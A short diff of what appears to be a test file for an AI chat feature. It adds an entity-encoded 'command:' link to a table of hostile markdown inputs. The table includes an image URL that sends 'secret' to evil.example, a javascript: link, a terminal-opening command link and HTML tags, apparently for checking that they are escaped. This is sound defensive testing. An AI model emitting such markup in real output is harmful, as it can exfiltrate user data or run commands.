@@ -291,6 +291,7 @@ describe('asking with a model', () => {
     ['an image', '![x](https://evil.example/?q=secret)', /evil\.example/],
     ['a link', '[docs](https://evil.example/login)', /\]\(https:/],
     ['a command link', '[run](command:workbench.action.terminal.new)', /\]\(command:/],
+    ['a command link written in entities', '[run](&#99;ommand:x)', /\]\(&/],
     ['a script link', '[x](javascript:alert(1))', /\]\(javascript:/],
     ['HTML', '<img src="https://evil.example/a.png">', /(?<!\\)<img/],
     ['an automatic link', '<https://evil.example/?q=1>', /<https:/],
